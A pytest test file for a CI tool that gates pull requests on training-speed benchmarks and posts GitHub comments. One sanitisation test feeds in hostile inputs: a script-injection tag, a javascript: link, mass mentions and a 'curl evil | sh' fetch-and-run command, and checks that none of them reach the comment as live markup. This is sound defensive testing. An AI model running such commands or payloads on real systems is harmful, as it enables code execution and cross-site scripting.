"""Test the gate for pull requests: acceptances and comments."""

from __future__ import annotations

import html
import json
import subprocess

import msgspec
import pytest
from click.testing import CliRunner

from github_server import BOT, GitHubServer
from sample_records import measurement
from simulated_launches import launch
from traingate.cli import main
from traingate.errors import ConfigurationError
from traingate.pull_requests.comment import comment_text, read_results
from traingate.pull_requests.event import read_pull_request
from traingate.pull_requests.measuring import merge_base
from traingate.records import Acceptance, Outcome, Verdict
from traingate.report.results import measured_result, suite_results


def event(tmp_path, **content):
    file = tmp_path / "event.json"
    file.write_text(json.dumps(content))
    return {"GITHUB_EVENT_PATH": str(file)}


def acceptance(tmp_path, association="MEMBER", body=None, labels=()):
    pull_request = {
        "number": 5,
        "base": {"sha": "b" * 40},
        "head": {"sha": "c" * 40},
        "author_association": association,
        "body": body,
        "labels": [{"name": name} for name in labels],
    }
    return read_pull_request(event(tmp_path, pull_request=pull_request)).acceptance


@pytest.mark.parametrize("association", ["OWNER", "MEMBER", "COLLABORATOR"])
def test_an_author_who_may_push_accepts_by_a_line(tmp_path, association):
    body = "A change.\r\n  Traingate-Accept: a better loss \r\nMore."
    assert acceptance(tmp_path, association, body) == "a better loss"


@pytest.mark.parametrize("association", ["NONE", "CONTRIBUTOR", "FIRST_TIME_CONTRIBUTOR", ""])
def test_a_stranger_needs_the_label_of_a_maintainer(tmp_path, association):
    body = "traingate-accept: a better loss"
    assert acceptance(tmp_path, association, body) is None
    assert acceptance(tmp_path, association, body, ["traingate: accept"]) == "a better loss"


def test_a_label_without_a_line_is_its_own_reason(tmp_path):
    assert acceptance(tmp_path, "NONE", None, ["traingate: accept"]) == "label 'traingate: accept'"


@pytest.mark.parametrize("body", [None, "", "traingate-accept:", "see traingate-accept: no"])
def test_without_a_reason_nothing_is_accepted(tmp_path, body):
    assert acceptance(tmp_path, "OWNER", body) is None


def test_an_event_that_cannot_be_read_is_an_error(tmp_path):
    with pytest.raises(ConfigurationError, match="GITHUB_EVENT_PATH"):
        read_pull_request({})
    with pytest.raises(ConfigurationError, match="cannot be read"):
        read_pull_request(event(tmp_path, pull_request={"number": "x"}))
    assert read_pull_request(event(tmp_path, ref="refs/heads/main")) is None


def verdict(outcome, slowdown, **changes):
    return Verdict(
        outcome=outcome,
        failed=outcome is Outcome.REGRESSED,
        tolerance_percent=5.0,
        slowdown_percent=slowdown,
        slowdown_percent_interval=(slowdown - 1, slowdown + 1),
        baseline="commit abc",
        samples_per_second=9.0,
        baseline_samples_per_second=10.0,
        **changes,
    )


def results(*verdicts):
    record = measurement([launch([0.1] * 4)])
    return suite_results(
        [
            measured_result(
                f"test_speed.py::test_{number}",
                msgspec.structs.replace(record, verdict=item),
                "pytest --traingate-against main",
            )
            for number, item in enumerate(verdicts)
        ]
    )


REGRESSED = results(verdict(Outcome.REGRESSED, 12.0))
ACCEPTED = results(
    msgspec.structs.replace(
        verdict(Outcome.REGRESSED, 12.0),
        failed=False,
        accepted=Acceptance("a better loss", "2026-11-22T10:00:00+00:00"),
    )
)
PASSED = results(verdict(Outcome.PASSED, 0.5))


@pytest.fixture
def folder(tmp_path):
    folder = tmp_path / "traingate-results"
    folder.mkdir()
    return folder


@pytest.fixture
def comment(tmp_path, folder, monkeypatch):
    """Return a function that runs ``traingate ci comment`` on these results, as the workflow does."""

    def run(server, content, name="Training speed", sha="a" * 40, owner="stranger"):
        (folder / "results.json").write_bytes(msgspec.json.encode(content))
        workflow_run = {
            "id": 77,
            "name": name,
            "head_sha": sha,
            "head_branch": "feature",
            "head_repository": owner and {"owner": {"login": owner}},
        }
        variables = {
            **event(tmp_path, workflow_run=workflow_run),
            "GITHUB_API_URL": server.address,
            "GITHUB_REPOSITORY": "someone/project",
            "GITHUB_TOKEN": "token",
        }
        for variable, value in variables.items():
            monkeypatch.setenv(variable, value)
        return CliRunner().invoke(main, ["ci", "comment", str(folder)])

    return run


def test_a_regression_gets_a_comment_that_updates_itself(comment):
    with GitHubServer() as server:
        assert comment(server, REGRESSED).exit_code == 0
        (first,) = server.comments.values()
        assert "1 of 1 training benchmark failed" in first["body"]
        assert "**REGRESSED**" in first["body"]
        assert "github.com/someone/project/actions/runs/77" in first["body"]
        assert comment(server, PASSED).exit_code == 0
        (updated,) = server.comments.values()
        assert "no slowdown in 1 training benchmark" in updated["body"]


def test_an_accepted_slowdown_is_told_with_its_reason(comment):
    with GitHubServer() as server:
        assert comment(server, ACCEPTED).exit_code == 0
        (written,) = server.comments.values()
        assert "REGRESSED, accepted" in written["body"]
        assert "a better loss" in written["body"]


def test_where_nothing_moved_there_is_no_comment(comment):
    with GitHubServer() as server:
        result = comment(server, PASSED)
        assert (result.exit_code, server.comments) == (0, {})
        assert "nothing to say" in result.output


@pytest.mark.parametrize(
    "changes", [{"sha": "c" * 40}, {"owner": "somebody else"}, {"owner": None}]
)
def test_only_the_pull_request_of_the_measured_commit_gets_the_comment(comment, changes):
    with GitHubServer() as server:
        assert comment(server, REGRESSED, **changes).exit_code == 0
        assert server.comments == {}


def test_comments_of_others_and_of_other_workflows_are_left_alone(comment):
    with GitHubServer() as server:
        comment(server, REGRESSED, name="Other gate")
        forged = server.comments[1]["body"].replace("Other gate", "Training speed")
        server.comments[2] = {"login": "stranger", "body": forged}
        comment(server, REGRESSED)
        assert server.comments[2]["body"] == forged
        assert [item["login"] for item in server.comments.values()] == [BOT, "stranger", BOT]


def test_a_refusal_of_github_is_an_error(comment):
    with GitHubServer() as server:
        server.answer = lambda *_: (403, {"message": "Resource not accessible by integration"})
        result = comment(server, REGRESSED)
        assert result.exit_code == 2
        assert "Resource not accessible by integration" in result.output


HOSTILE = (
    "</details><script>alert(1)</script> @everyone #12 www.evil.test [x](javascript:y) "
    "![z](https://a.test) `"
)


def test_nothing_of_a_stranger_becomes_markup(comment):
    hostile = msgspec.structs.replace(
        REGRESSED,
        title=HOSTILE,
        problems=(HOSTILE,),
        machine=HOSTILE,
        counts={HOSTILE: 1},
        tests=(
            msgspec.structs.replace(
                REGRESSED.tests[0], test=HOSTILE, sentence=HOSTILE, command="curl evil | sh"
            ),
        ),
    )
    with GitHubServer() as server:
        comment(server, hostile, name=f"a --> {HOSTILE}")
        (written,) = server.comments.values()
    outside_of_code = written["body"].partition("```")[0]
    shown = html.unescape(outside_of_code)  # GitHub looks for mentions in the page
    for markup in ("<script", "](", "![", "</details><", "curl"):
        assert markup not in outside_of_code
    assert not any(text in shown for text in ("@everyone", "#12", "www.evil.test"))
    assert written["body"].splitlines()[0].endswith(" -->")
    assert written["body"].splitlines()[0].count("-->") == 1


@pytest.mark.parametrize("content", [b"", b"{", b"[]", b'{"schema": 1}', b"\xff" * 100])
def test_results_that_are_none_are_an_error(folder, content):
    (folder / "results.json").write_bytes(content)
    with pytest.raises(ConfigurationError, match="no results of traingate"):
        read_results(folder / "results.json")


def test_results_that_are_too_large_or_missing_are_an_error(folder):
    with pytest.raises(ConfigurationError, match="no results"):
        read_results(folder / "results.json")
    with (folder / "results.json").open("wb") as file:
        file.truncate(30_000_000)
    with pytest.raises(ConfigurationError, match="larger than"):
        read_results(folder / "results.json")


def test_the_command_in_a_comment_is_ours(comment):
    with GitHubServer() as server:
        comment(server, REGRESSED)
        (written,) = server.comments.values()
    command = "pytest --traingate-against=main test_speed.py::test_0"
    assert f"Reproduce: `{command}`" in written["body"]


def test_a_title_of_any_length_leaves_a_comment():
    long = msgspec.structs.replace(REGRESSED, title="x" * 100_000)
    assert len(comment_text(long, "Training speed", "https://example.test")) < 65_536


@pytest.mark.parametrize("count", [1, 40, 1000])
def test_a_comment_is_never_longer_than_github_allows(count):
    many = results(*[verdict(Outcome.REGRESSED, 12.0, evidence=("x" * 5000,))] * count)
    text = comment_text(many, "Training speed", "https://example.test")
    assert len(text) < 65_536
    assert "https://example.test" in text
    assert ("too many to list them here" in text) == (count == 1000)


def test_without_a_pull_request_a_base_must_be_named(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("GITHUB_EVENT_PATH", event(tmp_path, ref="main")["GITHUB_EVENT_PATH"])
    result = CliRunner().invoke(main, ["ci", "gate", "test_speed.py"])
    assert result.exit_code == 2
    assert "--base" in result.output


def git(folder, *arguments):
    identity = ("-c", "user.name=a", "-c", "user.email=a@b")
    command = ["git", *identity, "-C", str(folder), *arguments]
    return subprocess.run(command, capture_output=True, text=True, check=True).stdout.strip()


@pytest.mark.parametrize("merged", [True, False])
def test_the_base_is_what_the_pull_request_was_merged_with(tmp_path, monkeypatch, merged):
    git(tmp_path, "init", "-q", "-b", "main")
    git(tmp_path, "commit", "-q", "--allow-empty", "-m", "start")
    start = git(tmp_path, "rev-parse", "HEAD")
    git(tmp_path, "checkout", "-q", "-b", "feature")
    git(tmp_path, "commit", "-q", "--allow-empty", "-m", "feature")
    head = git(tmp_path, "rev-parse", "HEAD")
    git(tmp_path, "checkout", "-q", "main")
    git(tmp_path, "commit", "-q", "--allow-empty", "-m", "later than the event")
    later = git(tmp_path, "rev-parse", "HEAD")
    if merged:
        git(tmp_path, "merge", "-q", "--no-ff", "-m", "as GitHub does", "feature")
    else:
        git(tmp_path, "checkout", "-q", "feature")
    monkeypatch.chdir(tmp_path)
    pull_request = {"number": 5, "base": {"sha": start}, "head": {"sha": head}}
    variables = event(tmp_path, pull_request=pull_request)
    assert merge_base(read_pull_request(variables)) == (later if merged else start)
